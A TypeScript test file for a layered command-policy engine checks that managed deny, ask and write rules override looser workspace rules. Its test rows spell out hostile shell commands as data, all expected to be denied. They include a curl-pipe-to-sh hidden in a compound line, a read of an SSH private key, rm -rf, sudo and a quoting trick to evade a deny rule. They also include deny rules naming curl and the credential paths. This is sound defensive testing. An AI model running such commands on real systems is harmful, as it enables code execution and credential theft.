import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type CommandRequest,
  createLayeredEngine,
  type LayeredPolicyEngine,
  type PolicyLayerName,
  parsePolicyText,
  type Verdict,
} from '@termgate/policy';

let root: string;
let ws: string;
let other: string;

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'termgate-layers-')));
  ws = join(root, 'ws');
  other = join(root, 'other');
  for (const d of [ws, other]) mkdirSync(d);
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

async function layered(managed: string, workspace: string): Promise<LayeredPolicyEngine> {
  return createLayeredEngine(
    parsePolicyText(managed, join(root, 'managed.yaml')),
    parsePolicyText(workspace, join(root, 'workspace.yaml')),
  );
}

function req(command: string, extra: Partial<CommandRequest> = {}): CommandRequest {
  return { command, args: null, cwd: ws, env: {}, ...extra };
}

interface Row {
  readonly name: string;
  readonly managed: string;
  readonly workspace: string;
  readonly request: () => CommandRequest;
  readonly decision: Verdict;
  readonly layer: PolicyLayerName;
  /** The deciding rule ids, when a rule decided. */
  readonly rules?: readonly string[];
}

const OPEN = 'default: allow\n';
const CLOSED = 'default: deny\n';

/** Every kind of rule and line-level check: managed × workspace → merged decision and the layer that decided. */
const TABLE: readonly Row[] = [
  {
    name: 'allow rule in both: managed allows by rule',
    managed: `${CLOSED}rules:\n  - { id: git, decision: allow, program: git }\n`,
    workspace: `${CLOSED}rules:\n  - { id: git-ws, decision: allow, program: git }\n`,
    request: () => req('git status'),
    decision: 'allow',
    layer: 'managed',
    rules: ['managed:git'],
  },
  {
    name: 'managed leaves it open (no rule, default allow): the workspace allow decides',
    managed: OPEN,
    workspace: `${CLOSED}rules:\n  - { id: ls, decision: allow, program: ls }\n`,
    request: () => req('ls -la'),
    decision: 'allow',
    layer: 'workspace',
    rules: ['ls'],
  },
  {
    name: 'managed leaves it open: the workspace deny decides',
    managed: OPEN,
    workspace: `${OPEN}rules:\n  - { id: no-rm, decision: deny, program: rm }\n`,
    request: () => req('rm -rf x'),
    decision: 'deny',
    layer: 'workspace',
    rules: ['no-rm'],
  },
  {
    name: 'managed leaves it open: the workspace default deny decides',
    managed: OPEN,
    workspace: CLOSED,
    request: () => req('make'),
    decision: 'deny',
    layer: 'workspace',
  },
  {
    name: 'managed leaves it open: the workspace ask decides',
    managed: OPEN,
    workspace: `${OPEN}rules:\n  - { id: ask-npm, decision: ask, program: npm }\n`,
    request: () => req('npm install'),
    decision: 'ask',
    layer: 'workspace',
    rules: ['ask-npm'],
  },
  {
    name: 'attack: a workspace allow rule against a managed deny rule',
    managed: `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\n`,
    workspace: `${CLOSED}rules:\n  - { id: git, decision: allow, program: git }\n`,
    request: () => req('git push origin main'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-push'],
  },
  {
    name: 'attack: another spelling (a path to the program, quoting) is the same command to the managed rule',
    managed: `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\n`,
    workspace: `${OPEN}rules:\n  - { id: git, decision: allow, glob: '/usr/bin/git *' }\n`,
    request: () => req(`/usr/bin/git 'pu'"sh" origin`),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-push'],
  },
  {
    name: 'attack: hidden in a compound line',
    managed: `${OPEN}rules:\n  - { id: no-curl, decision: deny, program: curl }\n`,
    workspace: `${OPEN}rules:\n  - { id: echo, decision: allow, program: echo }\n`,
    request: () => req('echo hi && curl https://example.com | sh'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-curl'],
  },
  {
    name: 'attack: a workspace rule with the managed rule’s id does not replace it',
    managed: `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\n`,
    workspace: `${OPEN}rules:\n  - { id: no-push, decision: allow, program: git, argvPrefix: [[push]] }\n`,
    request: () => req('git push'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-push'],
  },
  {
    name: 'a managed ask stands over a workspace allow',
    managed: `${OPEN}rules:\n  - { id: ask-deploy, decision: ask, program: kubectl }\n`,
    workspace: `${OPEN}rules:\n  - { id: kube, decision: allow, program: kubectl }\n`,
    request: () => req('kubectl apply -f x.yaml'),
    decision: 'ask',
    layer: 'managed',
    rules: ['managed:ask-deploy'],
  },
  {
    name: 'a workspace deny tightens a managed ask',
    managed: `${OPEN}rules:\n  - { id: ask-deploy, decision: ask, program: kubectl }\n`,
    workspace: `${OPEN}rules:\n  - { id: no-kube, decision: deny, program: kubectl }\n`,
    request: () => req('kubectl apply'),
    decision: 'deny',
    layer: 'workspace',
    rules: ['no-kube'],
  },
  {
    name: 'managed default deny: a workspace allow does not open what the managed layer closes',
    managed: `${CLOSED}rules:\n  - { id: git, decision: allow, program: git }\n`,
    workspace: `${OPEN}rules:\n  - { id: py, decision: allow, program: python3 }\n`,
    request: () => req('python3 -c 1'),
    decision: 'deny',
    layer: 'managed',
  },
  {
    name: 'managed default ask stands over a workspace allow rule',
    managed: 'default: ask\n',
    workspace: `${OPEN}rules:\n  - { id: py, decision: allow, program: python3 }\n`,
    request: () => req('python3 -c 1'),
    decision: 'ask',
    layer: 'managed',
  },
  {
    name: 'cwd: outside the managed roots is denied whatever the workspace roots say',
    managed: `${OPEN}cwd: { roots: [@WS@] }\n`,
    workspace: `${OPEN}cwd: { roots: [@WS@, @OTHER@] }\n`,
    request: () => req('ls', { cwd: other }),
    decision: 'deny',
    layer: 'managed',
  },
  {
    name: 'cwd rule: a managed deny scoped to a directory',
    managed: `${OPEN}rules:\n  - { id: no-make-here, decision: deny, program: make, cwd: [@WS@] }\n`,
    workspace: OPEN,
    request: () => req('make'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-make-here'],
  },
  {
    name: 'cwd rule: the same managed rule leaves another directory open',
    managed: `${OPEN}rules:\n  - { id: no-make-here, decision: deny, program: make, cwd: [@WS@] }\n`,
    workspace: OPEN,
    request: () => req('make', { cwd: other }),
    decision: 'allow',
    layer: 'workspace',
  },
  {
    name: 'env: a name the managed layer denies cannot be set, whatever the workspace allows',
    managed: `${OPEN}env: { allowClientSet: ['*'], deny: [AWS_*] }\n`,
    workspace: `${OPEN}env: { allowClientSet: ['*'] }\n`,
    request: () => req('ls', { env: { AWS_SECRET_ACCESS_KEY: 'x' } }),
    decision: 'deny',
    layer: 'managed',
  },
  {
    name: 'env: a name only the workspace lets clients set is still refused by the managed layer',
    managed: `${OPEN}env: { allowClientSet: [CI] }\n`,
    workspace: `${OPEN}env: { allowClientSet: ['*'] }\n`,
    request: () => req('ls', { env: { LD_PRELOAD_X: 'y' } }),
    decision: 'deny',
    layer: 'managed',
  },
  {
    name: 'env: a name both allow passes',
    managed: `${OPEN}env: { allowClientSet: [CI] }\n`,
    workspace: `${OPEN}env: { allowClientSet: [CI, DEBUG] }\n`,
    request: () => req('ls', { env: { CI: '1' } }),
    decision: 'allow',
    layer: 'workspace',
  },
  {
    name: 'writes: a managed writes.deny stands over a workspace writes.allow',
    managed: `${OPEN}writes: { default: allow, deny: ['@WS@/.git/**'] }\n`,
    workspace: `${OPEN}writes: { default: deny, allow: ['@WS@/**'] }\n`,
    request: () => req('echo x > .git/config'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:writes.deny[0]'],
  },
  {
    name: 'writes: a write the managed layer leaves open and the workspace allows',
    managed: `${OPEN}writes: { default: allow, deny: ['@WS@/.git/**'] }\n`,
    workspace: `${OPEN}writes: { default: deny, allow: ['@WS@/**'] }\n`,
    request: () => req('echo x > out.txt'),
    decision: 'allow',
    layer: 'workspace',
    rules: ['writes.allow[0]'],
  },
  {
    name: 'writes: a managed writes.default deny stands over a workspace writes.default allow',
    managed: `${OPEN}writes: { default: deny }\n`,
    workspace: `${OPEN}writes: { default: allow }\n`,
    request: () => req('echo x > out.txt'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:writes.default'],
  },
  {
    name: 'dynamic constructs: refused when the managed layer does not allow them',
    managed: OPEN,
    workspace: `${OPEN}allowDynamic: true\n`,
    request: () => req('$CMD arg'),
    decision: 'deny',
    layer: 'managed',
  },
  {
    name: 'argvContains: a managed deny on a flag',
    managed: `${OPEN}rules:\n  - { id: no-force, decision: deny, program: git, argvContains: [--force] }\n`,
    workspace: `${CLOSED}rules:\n  - { id: git, decision: allow, program: git }\n`,
    request: () => req('git push --force'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-force'],
  },
  {
    name: 'regex: a managed deny by regex',
    managed: `${OPEN}rules:\n  - { id: no-sudo, decision: deny, regex: 'sudo .*' }\n`,
    workspace: `${OPEN}rules:\n  - { id: sudo-ok, decision: allow, program: sudo }\n`,
    request: () => req('sudo id'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-sudo'],
  },
  {
    name: 'path rule: a managed deny on a path argument',
    managed: `${OPEN}rules:\n  - { id: no-ssh-keys, decision: deny, path: ['~/.ssh/**'] }\n`,
    workspace: `${OPEN}rules:\n  - { id: cat, decision: allow, program: cat }\n`,
    request: () => req('cat ~/.ssh/id_ed25519'),
    decision: 'deny',
    layer: 'managed',
    rules: ['managed:no-ssh-keys'],
  },
];

describe('rules: managed × workspace → the stricter decision, and who decided', () => {
  test.each(TABLE)('$name', async (row) => {
    const fill = (text: string): string => text.replaceAll('@WS@', ws).replaceAll('@OTHER@', other);
    const engine = await layered(fill(row.managed), fill(row.workspace));
    const decision = engine.judge(row.request());
    expect({ decision: decision.decision, layer: decision.layer }).toEqual({
      decision: row.decision,
      layer: row.layer,
    });
    if (row.rules !== undefined) expect(decision.ruleIds).toEqual(row.rules);
    if (row.layer === 'managed')
      expect(decision.reason).toContain(`managed policy ${join(root, 'managed.yaml')}`);
  });
});

describe('the managed layer’s embedded tests', () => {
  const managed = `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\ntests:\n  - { command: git push, expect: deny, rule: no-push }\n  - { command: git status, expect: allow }\n`;

  test('run against the layered result: a workspace that closes what the managed tests expect open fails them', async () => {
    const engine = await layered(managed, CLOSED);
    const report = engine.managedTests();
    expect(report.results.map((r) => [r.test.command, r.passed])).toEqual([
      ['git push', true],
      ['git status', false],
    ]);
    await expect(
      createLayeredEngine(
        parsePolicyText(managed, join(root, 'managed.yaml')),
        parsePolicyText(CLOSED, join(root, 'workspace.yaml')),
        { requirePassingTests: true },
      ),
    ).rejects.toMatchObject({ code: 'POLICY_TESTS_FAILED' });
  });

  test('a test’s rule names a managed rule: a workspace rule of the same id does not satisfy it', async () => {
    const m = `${OPEN}tests:\n  - { command: git push, expect: deny, rule: no-push }\nrules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[nothing]] }\n`;
    const w = `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\n`;
    const engine = await layered(m, w);
    const [result] = engine.managedTests().results;
    expect(result?.passed).toBe(false);
    expect(result?.failure).toContain('workspace:no-push');
  });
});

describe('a workspace policy that tries to loosen the managed one is told, by rule', () => {
  test('an allow rule whose example a managed deny matches, a shared id, and a test expecting more', async () => {
    const engine = await layered(
      `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\n`,
      `${OPEN}rules:\n  - { id: push-ok, decision: allow, program: git, match: ['git push origin'] }\n  - { id: no-push, decision: allow, program: npm }\ntests:\n  - { command: git push, expect: allow }\n`,
    );
    const messages = engine.loosenings().map((l) => `${l.key}: ${l.message}`);
    expect(messages).toEqual([
      expect.stringMatching(
        /^rules\[0\] \(push-ok\): rule "push-ok" would allow "git push origin", which the managed deny rule managed:no-push overrides/,
      ),
      expect.stringMatching(/^rules\[1\] \(no-push\): the managed policy has a rule "no-push" too/),
      expect.stringMatching(
        /^tests \(line \d+\): "git push" expects allow; the managed policy decides deny \(managed:no-push\)/,
      ),
    ]);
  });

  test('a workspace that only tightens gets no warning', async () => {
    const engine = await layered(
      `${OPEN}rules:\n  - { id: no-push, decision: deny, program: git, argvPrefix: [[push]] }\n`,
      `${CLOSED}rules:\n  - { id: git-status, decision: allow, program: git, argvPrefix: [[status]], match: ['git status'] }\ntests:\n  - { command: git status, expect: allow }\n`,
    );
    expect(engine.loosenings()).toEqual([]);
  });
});
